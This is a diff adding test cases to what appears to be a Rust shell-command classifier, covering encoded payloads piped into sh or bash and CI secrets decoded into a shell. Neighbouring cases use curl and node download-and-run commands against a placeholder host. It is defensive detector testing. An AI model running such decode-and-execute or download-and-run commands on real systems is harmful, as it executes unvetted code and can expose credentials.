@@ -149,6 +149,14 @@ fn commands_are_read_as_a_shell_reads_them() {
             "curl -O https://x.example.org/i.sh; chmod +x i.sh; ./i.sh",
             "download_run",
         ),
+        (
+            "echo ZWNobyBoZWxsbyBmcm9tIGEgcGF5bG9hZA== | base64 -d | sh",
+            "decoded_payload_run",
+        ),
+        (
+            "printf '6563686f2068656c6c6f2066726f6d' | xxd -r -p | bash",
+            "decoded_payload_run",
+        ),
         ("source <(curl -s https://x.example.org/a)", "download_run"),
         (
             "bash <<< \"$(curl https://x.example.org/a)\"",
@@ -156,6 +164,14 @@ fn commands_are_read_as_a_shell_reads_them() {
         ),
         (
             "node -e \"require('child_process').exec('curl https://x.example.org/a | sh')\"",
+            "download_run",
+        ),
+        (
+            "echo ${{ secrets.kubeConfigAsBase64ForTheTestCluster }} | base64 -d | sh",
+            "download_run",
+        ),
+        (
+            "echo $KUBECONFIGASBASE64FORTHECLUSTER1 | base64 -d | sh",
             "download_run",
         ),
         ("curl https://x.example.org/a > a.sh", ""),
